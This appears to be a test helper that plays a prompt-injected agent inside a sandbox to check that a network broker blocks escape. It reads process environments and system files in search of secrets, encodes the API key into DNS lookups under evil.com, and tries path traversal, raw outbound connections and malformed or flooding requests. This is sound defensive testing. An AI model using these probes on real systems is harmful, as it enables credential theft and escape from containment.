"""The agent of tests/integration/test_broker.py: runs inside the box, tries what an agent (or a
prompt-injected one) would try, and prints one JSON line per check. Standard library only."""
import base64
import json
import os
import socket
import ssl
import struct
import sys
import time
import urllib.error
import urllib.request

cfg = json.loads(sys.argv[1])


def out(check, **kw):
    print(json.dumps({"check": check, **kw}), flush=True)


def http(url, headers=None, data=None, ctx=None):
    req = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=10, context=ctx) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()
    except Exception as e:  # noqa: BLE001 - the kind of failure is the result
        return None, repr(e)


def raw_exchange(data, wait_close=False):
    s = socket.create_connection(("127.0.0.1", cfg["proxy_port"]), timeout=10)
    s.sendall(data)
    got = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
            if not wait_close and b"\r\n\r\n" in got:
                break
    except OSError as e:
        got += repr(e).encode()
    s.close()
    return got.decode(errors="replace").split("\r\n")[0]


def dns_query(name):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", 1, 1)


def dns_tcp(names):
    """Queries over one TCP connection (two bytes of length, then the message): for each name,
    (rcode, the first A record or None)."""
    s = socket.create_connection(("127.0.0.1", 53), timeout=3)
    got = []
    for name in names:
        q = dns_query(name)
        s.sendall(struct.pack(">H", len(q)) + q)
        buf = b""
        while len(buf) < 2 or len(buf) < 2 + struct.unpack(">H", buf[:2])[0]:
            chunk = s.recv(4096)
            if not chunk:
                raise OSError("closed after " + repr(buf))
            buf += chunk
        reply = buf[2:]
        ancount = struct.unpack(">H", reply[6:8])[0]
        addr = socket.inet_ntoa(reply[-4:]) if ancount else None
        got.append((reply[3] & 0xF, addr))
    s.close()
    return got


def dns_rcode(name):
    q = dns_query(name)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q, ("127.0.0.1", 53))
    try:
        reply, _ = s.recvfrom(1500)
    except OSError as e:
        return repr(e)
    return reply[3] & 0xF


placeholder = os.environ.get("API_KEY", "")
base = os.environ.get("API_BASE_URL", "")
out("env", placeholder=placeholder, base=base, marker=os.environ.get("SBX_TEST_MARKER"),
    proxy=os.environ.get("HTTPS_PROXY"))

# Everything this agent can read that could hold a secret, into one file the test searches.
seen = [json.dumps(dict(os.environ))]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for f in ("environ", "cmdline"):
            try:
                seen.append(open(f"/proc/{pid}/{f}", "rb").read().decode(errors="replace"))
            except OSError:
                pass
# (/tmp is the host's /tmp through an overlay: its top level only, which holds the test's files.)
for root in ("/workspace", "/run", "/etc"):
    for d, _, files in os.walk(root):
        for f in files:
            p = os.path.join(d, f)
            if p.endswith("seen.txt"):
                continue
            try:
                seen.append(open(p, "rb").read(1 << 20).decode(errors="replace"))
            except OSError:
                pass
for d, dirs, files in os.walk(cfg["tmp"]):
    for f in files:
        try:
            seen.append(open(os.path.join(d, f), "rb").read(1 << 20).decode(errors="replace"))
        except OSError:
            pass
try:
    content = open(cfg["secret_file"]).read()
    out("secret_file", readable=True, length=len(content))
except OSError as e:
    out("secret_file", readable=False, error=repr(e))
with open("/workspace/seen.txt", "w") as f:
    f.write("\n".join(seen))

if cfg.get("mode") == "host":
    # Control: without the policy the same direct connection succeeds.
    try:
        socket.create_connection((cfg["upstream_addr"], cfg["upstream_port"]), timeout=5).close()
        out("raw", target=f"{cfg['upstream_addr']}:{cfg['upstream_port']}", result="connected")
    except OSError as e:
        out("raw", target=f"{cfg['upstream_addr']}:{cfg['upstream_port']}", result=repr(e))
    st, body = http(f"http://{cfg['upstream_addr']}:{cfg['other_port']}/", {"x-api-key": "sbx-placeholder-api-0001"})
    out("wrong_destination", status=st)
    sys.exit(0)

st, body = http(base + "/v1/messages?beta=1", {"x-api-key": placeholder, "Authorization": "Bearer stolen",
                                               "Content-Type": "application/json"}, data=b'{"q": 1}')
out("credential", status=st, body=body)
t0 = time.monotonic()
with urllib.request.urlopen(urllib.request.Request(base + "/slow", headers={"x-api-key": placeholder}), timeout=10) as r:
    first = r.read1(100).decode()
    first_after = time.monotonic() - t0
    rest = r.read().decode()
out("stream", first=first, first_after=first_after, rest=rest, total=time.monotonic() - t0)
st, body = http(base + "/echo", {"x-api-key": placeholder})
out("echo", status=st, body=body)
st, body = http(f"http://other.example.test:{cfg['other_port']}/", {"x-api-key": placeholder})
out("wrong_destination", status=st, body=body)
st, body = http(f"http://other.example.test:{cfg['other_port']}/")
out("plain_allowed", status=st, body=body)
ctx = ssl.create_default_context(cafile="/workspace/ca.pem")
st, body = http(f"https://api.example.test:{cfg['upstream_port']}/ping", ctx=ctx)
out("connect_allowed", status=st, body=body)
st, body = http("https://denied.example.org/", ctx=ctx)
out("connect_denied", status=st, body=body)

for host, port in ((cfg["upstream_addr"], cfg["upstream_port"]), ("10.0.0.1", 80), ("1.1.1.1", 443), ("::1", cfg["upstream_port"])):
    t0 = time.monotonic()
    try:
        socket.create_connection((host, port), timeout=5).close()
        result = "connected"
    except OSError as e:
        result = repr(e)
    out("raw", target=f"{host}:{port}", result=result, seconds=time.monotonic() - t0)

try:
    out("dns_allowed", addr=socket.gethostbyname("api.example.test"))
except OSError as e:
    out("dns_allowed", addr=repr(e))
try:
    out("dns_denied", addr=socket.gethostbyname("not-listed.example.org"))
except OSError as e:
    out("dns_denied", addr=None, error=repr(e))
label = base64.b32encode(b"secret-" + placeholder.encode()).decode().rstrip("=").lower()
out("dns_exfil", name=f"{label}.evil.com", rcode=dns_rcode(f"{label}.evil.com"))
out("dns_allowed_raw", rcode=dns_rcode("api.example.test"))
try:
    (ok_rcode, ok_addr), (bad_rcode, _) = dns_tcp(["api.example.test", "tcp-exfil.evil.com"])
    out("dns_tcp", rcode=ok_rcode, addr=ok_addr, denied_rcode=bad_rcode, denied_name="tcp-exfil.evil.com")
except OSError as e:
    out("dns_tcp", error=repr(e))

# A listed name that DNS points at the supervisor's own loopback is not reached.
out("connect_local", status=raw_exchange(f"CONNECT localhost:{cfg['upstream_port']} HTTP/1.1\r\nHost: x\r\n\r\n".encode()))

# Paths that would leave the binding's prefix.
out("traversal", statuses=[raw_exchange(f"GET /api{p} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
                           for p in ("/v1/../../admin", "/v1/%2E%2e/admin", "/v1%2fadmin", "/.")])

# Abuse: the broker answers each with an error and keeps serving.
out("malformed", status=raw_exchange(b"GARBAGE \x00\x01\r\n\r\n"))
out("oversized", status=raw_exchange(b"GET /api/x HTTP/1.1\r\nHost: a\r\nX-Big: " + b"a" * 40000 + b"\r\n\r\n"))
out("huge_body", status=raw_exchange(b"POST /api/x HTTP/1.1\r\nHost: a\r\nContent-Length: 999999999\r\n\r\n"))
slow = socket.create_connection(("127.0.0.1", cfg["proxy_port"]), timeout=30)
slow.sendall(b"GET /api/v1/messages HTTP/1.1\r\n")
t0 = time.monotonic()
st, _ = http(base + "/v1/messages", {"x-api-key": placeholder}, data=b"{}")
out("during_slow", status=st)
try:
    slow.recv(100)
    closed = True
except OSError:
    closed = False
out("slow", closed=closed, seconds=time.monotonic() - t0)
st, body = http(base + "/v1/messages", {"x-api-key": placeholder}, data=b"{}")
out("after_abuse", status=st)

# Garbage datagrams at the resolver (random bytes, truncated and oversized questions), then a
# real question: still answered.
import random  # noqa: E402
rng = random.Random(8)
junk = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(300):
    n = rng.choice([0, 1, 11, 12, 13, 17, 40, 512, 1400])
    data = bytes(rng.getrandbits(8) for _ in range(n))
    if i % 3 == 0 and n >= 12:  # a plausible header, so the parser gets further in
        data = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + data[12:]
    junk.sendto(data, ("127.0.0.1", 53))
# UDP may drop a datagram while the resolver works through the junk: what must hold is that it
# still answers, so the real question is asked up to five times.
for attempt in range(1, 6):
    rc = dns_rcode("api.example.test")
    if rc == 0:
        break
out("dns_after_garbage", rcode=rc, attempts=attempt)

# A flood of refused lookups: the broker reports a bounded number and counts the rest.
flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(150):
    q = struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + b"\x05flood" + bytes([len(str(i))]) + str(i).encode()
    flood.sendto(q + b"\x07example\x03org\0\0\1\0\1", ("127.0.0.1", 53))
time.sleep(1.2)
out("flood_after", rcode=dns_rcode("after-flood.example.org"))
